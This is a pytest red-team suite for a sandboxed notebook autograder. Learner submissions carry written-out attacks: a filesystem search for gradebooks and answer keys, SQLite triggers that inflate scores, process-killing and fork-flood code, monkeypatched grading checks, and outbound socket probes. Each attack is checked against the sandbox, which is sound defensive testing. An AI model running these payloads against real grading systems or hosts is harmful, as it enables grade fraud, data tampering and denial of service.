"""The red team: every promise of the threat model (instructor guide, "What learner code cannot do"),
attacked by a submission, with the outcome an instructor must see.

All attacks are graded in ONE batch by the real pipeline (``autograde``: local workers, nbgrader in
the sandbox, the out-of-kernel re-check), with the sandbox on, 10 s per cell and a 40 s notebook
budget. Each attacker is the same *wrong* submission (``center`` returns its input unchanged: 1 of
4 autograded points, from ``scale``) plus one attack, so "the attack gained nothing" is exactly
"it scores no more than the plain wrong submission" (:data:`BASELINE`). Attacks that look for
something print what they found; the tests read those prints from the autograded notebook (the
kernel) and check the host from outside (files, processes, a server on 127.0.0.1, the gradebook).

The fixture problem set (tests/grading/fixtures): ``scale_test`` (1 point), ``center_shape`` (1) and
``center_test`` (2), each backed by a Part; all parts numpy only (``NO_TORCH``).
"""

from __future__ import annotations

import copy
import json
import socket
import sqlite3
import threading
from pathlib import Path

import nbformat
import pytest

from grading_helpers import PROBLEM_SET, cell, make_course, solution_nb, submit, with_solution

pytestmark = pytest.mark.slow

WRONG = "def center(x):\n    return x\n"
CENTER_OK = "def center(x):\n    x = np.asarray(x)\n    return x - x.mean(axis=-1, keepdims=True)\n"
BASELINE = 1.0  # the wrong submission's autograded score: scale only
MARK = "NC_REDTEAM"


def _attack(code: str) -> nbformat.NotebookNode:
    """The wrong submission with ``code`` run in its solution cell (before ``center`` is defined)."""
    return with_solution("center", code + "\n" + WRONG)


FIND_SECRETS = f"""
import os, fnmatch
found = []
for top, dirs, files in os.walk('/'):
    if top.startswith(('/proc', '/sys', '/dev')) or 'site-packages' in top:  # installed software: read-only
        dirs[:] = []
        continue
    for name in files:
        if name in ('gradebook.db', 'ledger.json', 'recheck-salt') or fnmatch.fnmatch(name, '{PROBLEM_SET}*.ipynb'):
            found.append(os.path.join(top, name))
print('{MARK} FOUND', found)
for path in found:  # use whatever was found: the solution's center, or the gradebook
    if path.endswith('.ipynb'):
        import json
        for c in json.load(open(path))['cells']:
            if 'def center' in ''.join(c['source']) and 'BEGIN SOLUTION' in ''.join(c['source']):
                exec(''.join(c['source']).replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))
"""

TRIGGER = f"""
import os, sqlite3
touched = []
for top, dirs, files in os.walk('/'):
    if top.startswith(('/proc', '/sys', '/dev', '/usr')):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith('.db') or name.endswith('.sqlite'):
            path = os.path.join(top, name)
            try:
                db = sqlite3.connect(path)
                db.execute("CREATE TRIGGER {MARK}_lift AFTER UPDATE ON grade BEGIN "
                           "UPDATE grade SET auto_score = 100; END")
                db.commit()
                touched.append(path)
            except Exception as exc:
                pass
print('{MARK} TRIGGERS', touched)
"""

WRITE_OUTSIDE = f"""
import os
written = []
for folder in ['/tmp', '/var/tmp', '/root', '/home', '/work', '/work/main', os.path.expanduser('~'), '..', '../..',
               '/opt', '/etc', '/usr/local']:
    try:
        with open(os.path.join(folder, '{MARK}_written'), 'w') as f:
            f.write('x')
        written.append(os.path.realpath(folder))
    except Exception:
        pass
print('{MARK} WROTE', written)
"""

BACKGROUND = f"""
import subprocess, sys, os
for _ in range(3):
    subprocess.Popen([sys.executable, '-c', 'import time, signal; signal.signal(signal.SIGTERM, signal.SIG_IGN); '
                      'time.sleep(1000)  # {MARK}_BG'], start_new_session=True)
if os.fork() == 0:  # a double fork, detached from everything
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(1000)  # {MARK}_BG'])
    os._exit(0)
"""

KILL_PARENT = """
import os, signal
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""

SIGINT_LOOP = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
def center(x):
    while True:
        pass
"""

FORK_FLOOD = f"""
import os, time
children = 0
for _ in range(500):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    except OSError:
        break
print('{MARK} FORKED', children)
"""

FLOOD_OUTPUT = "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(200):\n    sys.stdout.write(chunk)\n"

STRIP_ASSERTS = """
ip = get_ipython()
def _strip(lines):
    return [line for line in lines if 'assert' not in line and 'check_part' not in line]
ip.input_transformers_post.append(_strip)
"""

SUBCLASS = """
class _Always(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(self), bool).view(np.ndarray)
    def __sub__(self, other): return np.zeros(np.shape(self)).view(_Always)
    def __rsub__(self, other): return np.zeros(np.shape(self)).view(_Always)
    def __abs__(self): return np.zeros(np.shape(self))
def center(x):
    return np.zeros(np.shape(x)).view(_Always)
"""

PATCH_COMPARISONS = """
import numpy, normcourse.grading.parts, normcourse.grading.compare
numpy.allclose = lambda *a, **k: True
normcourse.grading.parts.Part.check = lambda self, fn: 1
normcourse.grading.compare.assert_array_matches = lambda *a, **k: None
"""

HIDE_TRACEBACK = "get_ipython().showtraceback = lambda *a, **k: None\nimport sys\nsys.excepthook = lambda *a: None\n"

USE_REFERENCE = """
def scale(x, factor):
    import normcourse.problems  # the course's own answer key
    from normcourse.grading.parts import get_part
    return get_part('ps00_fixture', 'scale_test').reference(x, factor)
"""

USE_TORCH = """
import torch
def scale(x, factor):
    return (torch.as_tensor(x) * factor).numpy()
"""


def _network_attack(port: int) -> str:
    return f"""
import socket
reached = []
for host in ['127.0.0.1', 'localhost', '10.0.2.2', '8.8.8.8']:
    try:
        s = socket.create_connection((host, {port}), timeout=2)
        s.sendall(b'{MARK} from the sandbox')
        reached.append(host)
    except Exception as exc:
        pass
print('{MARK} REACHED', reached)
"""


def _lookup_table() -> nbformat.NotebookNode:
    """``center`` answers from a table of the reference's outputs on the hidden cases generated with the
    notebook's public seeds (the package is open source), and is wrong on anything else."""
    import base64

    import numpy as np

    from normcourse.grading.parts import get_part

    table = {}
    for grade_id in ("center_shape", "center_test"):
        part = get_part(PROBLEM_SET, grade_id)
        for case in part.make_cases():
            x = np.asarray(case.args[0])
            table[base64.b64encode(x.tobytes()).decode()] = base64.b64encode(
                np.ascontiguousarray(part.reference(x)).tobytes()).decode()
    return with_solution("center", f"import base64\nTABLE = {table!r}\n"
                                   "def center(x):\n    x = np.asarray(x)\n"
                                   "    hit = TABLE.get(base64.b64encode(np.ascontiguousarray(x).tobytes()).decode())\n"
                                   "    if hit is None:\n        return x\n"
                                   "    return np.frombuffer(base64.b64decode(hit), dtype=x.dtype).reshape(x.shape)\n")


def _inflated_points() -> nbformat.NotebookNode:
    nb = _attack("")
    for grade_id in ("scale_test", "center_shape", "center_test"):
        cell(nb, grade_id).metadata["nbgrader"]["points"] = 100
    bonus = nbformat.v4.new_code_cell("print('free points')")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 1000,
                                  "grade_id": "bonus", "schema_version": 3}
    nb.cells.append(bonus)
    return nb


def _edited_test() -> nbformat.NotebookNode:
    nb = _attack("")
    cell(nb, "center_test").source = "pass  # the learner 'fixed' the test"
    return nb


def _deleted_test() -> nbformat.NotebookNode:
    nb = copy.deepcopy(_attack(""))
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "center_test"]
    return nb


class _Server:
    """A TCP server on the host's 127.0.0.1 that records every connection (none may come)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(1000) or b"<connected>")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def _variants(release_nb, port: int) -> dict:
    return {
        "correct": solution_nb(),
        "untouched_release": release_nb,
        "wrong": _attack(""),
        "find_secrets": _attack(FIND_SECRETS),
        "gradebook_trigger": _attack(TRIGGER),
        "write_outside": _attack(WRITE_OUTSIDE),
        "background": _attack(BACKGROUND),
        "kill_parent": _attack(KILL_PARENT),
        "sigint_loop": with_solution("center", SIGINT_LOOP),
        "fork_flood": _attack(FORK_FLOOD),
        "flood_output": _attack(FLOOD_OUTPUT),
        "inflated_points": _inflated_points(),
        "strip_asserts": _attack(STRIP_ASSERTS),
        "network": _attack(_network_attack(port)),
        "subclass": with_solution("center", SUBCLASS),
        "patched_comparisons": _attack(PATCH_COMPARISONS),
        "hidden_traceback": _attack(HIDE_TRACEBACK),
        "branches_on_nbgrader": with_solution("center", "import os\nif os.environ.get('NBGRADER_EXECUTION'):\n"
                                              + "".join("    " + ln + "\n" for ln in (PATCH_COMPARISONS + WRONG).splitlines())
                                              + "else:\n" + "".join("    " + ln + "\n" for ln in CENTER_OK.splitlines())),
        "use_reference": with_solution("scale", USE_REFERENCE),
        "use_torch": with_solution("scale", USE_TORCH),
        "edited_test": _edited_test(),
        "deleted_test": _deleted_test(),
        "os_exit": _attack("import os\nos._exit(0)\n"),
        "memory_bomb": _attack("hoard = []\nwhile True:\n    hoard.append(np.ones(10**7))\n"),
        "lookup_table": _lookup_table(),
        "stderr_warning": with_solution("center", "import warnings\n" + CENTER_OK.replace(
            "    x = np.asarray(x)\n", "    x = np.asarray(x)\n    warnings.warn('centering is easy')\n")),
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    import psutil

    from normcourse.grading.autograde import AutogradeOptions, autograde
    from normcourse.grading.limits import Limits

    course = make_course(tmp_path_factory.mktemp("redteam"))
    release_nb = nbformat.read(course.release_dir(PROBLEM_SET) / f"{PROBLEM_SET}.ipynb", as_version=4)
    server = _Server()
    try:
        for student, nb in _variants(release_nb, server.port).items():
            submit(course, student, nb)
        submit(course, "invalid_json", raw=b'{"cells": [ this is not json')
        options = AutogradeOptions(workers=2, cell_timeout=10, recheck_timeout=90, progress=False,
                                   limits=Limits(notebook_seconds=40))
        summary = autograde(course, PROBLEM_SET, options)
        leftovers = [p.info for p in psutil.process_iter(["pid", "cmdline"])
                     if any(f"{MARK}_BG" in part for part in (p.info["cmdline"] or []))]
    finally:
        server.close()
    return course, summary, server, leftovers


def _result(graded, student):
    from normcourse.grading.result import GradeResult
    record = graded[1].records[student]
    return record, GradeResult.from_json(record["result"])


def _printed(graded, student: str, tag: str):
    """What the attack printed after ``MARK tag`` in the autograded notebook (the kernel's run)."""
    course = graded[0]
    nb = nbformat.read(course.autograded_dir(PROBLEM_SET, student) / f"{PROBLEM_SET}.ipynb", as_version=4)
    for c in nb.cells:
        for out in c.get("outputs", []):
            text = out.get("text", "")
            if f"{MARK} {tag}" in text:
                return text.split(f"{MARK} {tag}", 1)[1].strip().splitlines()[0]
    raise AssertionError(f"{student}: the attack printed no '{MARK} {tag}' line")


def test_every_submission_has_an_outcome_and_the_books_agree(graded):
    course, summary, _, _ = graded
    assert summary.problems == [], summary.problems
    assert set(summary.records) == set(_variants(solution_nb(), 0)) | {"invalid_json"}
    for student, record in summary.records.items():
        assert record["status"] in ("graded", "failed"), (student, record["status"], record["reason"])
        assert _result(graded, student)[1].sandboxed


def test_the_pipeline_is_right_on_honest_submissions(graded):
    assert _result(graded, "correct")[1].score == 4.0
    assert _result(graded, "untouched_release")[1].score == 0.0
    assert _result(graded, "wrong")[1].score == BASELINE


ATTACKERS = ["find_secrets", "gradebook_trigger", "write_outside", "background", "kill_parent", "sigint_loop",
             "fork_flood", "flood_output", "inflated_points", "strip_asserts", "network", "subclass",
             "patched_comparisons", "hidden_traceback", "branches_on_nbgrader", "edited_test", "deleted_test",
             "os_exit", "memory_bomb"]


@pytest.mark.parametrize("student", ATTACKERS)
def test_an_attack_scores_no_more_than_the_same_wrong_submission_without_it(graded, student):
    record, result = _result(graded, student)
    assert result.score <= BASELINE, (student, result.score, [(p.grade_id, p.score, p.reason) for p in result.parts])
    assert result.max_score == 4.0


def test_the_kernel_cannot_find_the_source_notebook_the_gradebook_or_the_ledger(graded):
    found = eval(_printed(graded, "find_secrets", "FOUND"))  # a list literal the attack printed
    # nbgrader ships a sample gradebook among its own test files: installed software, visible read-only
    assert [path for path in found if "/site-packages/" not in path] == []


def test_no_gradebook_is_reachable_and_the_course_gradebook_has_no_trigger(graded):
    assert _printed(graded, "gradebook_trigger", "TRIGGERS") == "[]"
    db = sqlite3.connect(graded[0].grading_dir / "gradebook.db")
    assert db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall() == []


def test_writes_outside_the_private_folder_reach_nothing_of_the_host(graded):
    course = graded[0]
    # inside, /tmp and /var/tmp-like folders are private tmpfs: a write may "succeed" there and vanish
    for folder in (Path("/tmp"), Path("/var/tmp"), Path.home(), course.root, Path("/work"), Path("/opt"), Path("/etc")):
        assert not (folder / f"{MARK}_written").exists(), folder
    assert "/etc" not in _printed(graded, "write_outside", "WROTE")


def test_no_background_process_outlives_its_grading(graded):
    assert graded[3] == [], graded[3]


def test_killing_the_parent_costs_only_the_attacker(graded):
    record, result = _result(graded, "kill_parent")
    assert record["status"] == "graded"
    assert any("kernel died" in f for f in result.flags), result.flags
    # its re-check process went down with its sandbox too, so nothing it wrote is confirmed; the batch
    # went on (every other submission has its outcome: test_every_submission_has_an_outcome...)
    assert result.score == 0.0
    assert "ended the process" in result.part(PROBLEM_SET, "scale_test").reason


def test_an_endless_loop_that_ignores_sigint_ends_within_the_budget(graded):
    record, result = _result(graded, "sigint_loop")
    assert result.score == BASELINE
    assert result.timings["nbgrader"] < 40 + 20, result.timings
    center = result.part(PROBLEM_SET, "center_test")
    assert center.score == 0.0 and center.recheck is False and "did not return" in center.reason


def test_a_fork_flood_stops_at_the_process_cap(graded):
    forked = int(_printed(graded, "fork_flood", "FORKED"))
    assert forked < 64


def test_200_mb_of_output_is_truncated_and_flagged(graded):
    course = graded[0]
    size = (course.autograded_dir(PROBLEM_SET, "flood_output") / f"{PROBLEM_SET}.ipynb").stat().st_size
    assert size < 3 << 20, size
    assert any("output truncated" in f for f in _result(graded, "flood_output")[1].flags)


def test_answers_looked_up_from_the_public_seeds_do_not_pass(graded):
    """The re-check's cases are salted with a course-private seed: a table of answers to the notebook's
    own hidden cases passes in the kernel and fails where it counts. (A visible test's inputs are
    public by design, so its Part confirms a looked-up answer too: it is worth one point.)"""
    _, result = _result(graded, "lookup_table")
    center = result.part(PROBLEM_SET, "center_test")
    assert center.in_kernel == 2.0 and center.recheck is False and center.score == 0.0
    assert result.score == 2.0


def test_inflated_points_in_the_submission_change_nothing(graded):
    record, result = _result(graded, "inflated_points")  # nbgrader itself may reject the forged cell: "failed"
    assert result.score <= BASELINE
    assert {p.grade_id: p.max_score for p in result.parts if p.kind == "autograded"} == \
        {"scale_test": 1.0, "center_shape": 1.0, "center_test": 2.0}


def test_an_input_transformer_that_strips_asserts_gains_nothing(graded):
    _, result = _result(graded, "strip_asserts")
    center = result.part(PROBLEM_SET, "center_test")
    assert center.score == 0.0 and center.recheck is False


def test_no_server_on_the_hosts_loopback_is_reachable(graded):
    assert graded[2].received == []
    assert _printed(graded, "network", "REACHED") == "[]"


def test_an_array_that_claims_to_equal_everything_is_rejected(graded):
    _, result = _result(graded, "subclass")
    assert "does not accept" in result.part(PROBLEM_SET, "center_test").reason


@pytest.mark.parametrize("student", ["patched_comparisons", "hidden_traceback", "branches_on_nbgrader"])
def test_tampering_with_the_kernel_is_flagged_and_gains_nothing(graded, student):
    _, result = _result(graded, student)
    assert result.score == BASELINE
    assert result.flags, "a person should look at this submission"


def test_the_course_reference_is_not_available_to_learner_code(graded):
    _, result = _result(graded, "use_reference")
    scale = result.part(PROBLEM_SET, "scale_test")
    assert scale.score == 0.0 and scale.broken_rules == ["no-course-code"]
    assert "rule no-course-code" in scale.reason
    assert any("broke rule no-course-code" in f for f in result.flags)


def test_torch_is_not_available_in_a_numpy_only_part(graded):
    _, result = _result(graded, "use_torch")
    scale = result.part(PROBLEM_SET, "scale_test")
    assert scale.score == 0.0 and scale.broken_rules == ["no-torch"]
    assert "rule no-torch" in scale.reason


def test_an_edited_or_deleted_test_is_put_back_and_fails(graded):
    for student in ("edited_test", "deleted_test"):
        _, result = _result(graded, student)
        assert result.part(PROBLEM_SET, "center_test").score == 0.0


def test_a_kernel_that_exits_is_graded_by_the_recheck(graded):
    record, result = _result(graded, "os_exit")
    assert record["status"] == "graded" and result.score == BASELINE
    assert result.part(PROBLEM_SET, "center_test").ran is False  # the kernel died at the cell before it


def test_a_memory_bomb_meets_the_cap_and_the_rest_is_graded(graded):
    record, result = _result(graded, "memory_bomb")
    assert record["status"] == "graded" and result.score <= BASELINE


def test_a_correct_answer_that_warns_keeps_its_points(graded):
    assert _result(graded, "stderr_warning")[1].score == 4.0


def test_invalid_json_is_a_recorded_failure_with_zero(graded):
    record, result = _result(graded, "invalid_json")
    assert record["status"] == "failed" and "not a valid notebook" in record["reason"]
    assert result.score == 0.0


def test_the_ledger_says_every_grade_was_sandboxed(graded):
    ledger = json.loads((graded[0].grading_dir / "ledger.json").read_text())
    assert all(r["result"]["sandboxed"] for r in ledger["records"].values())
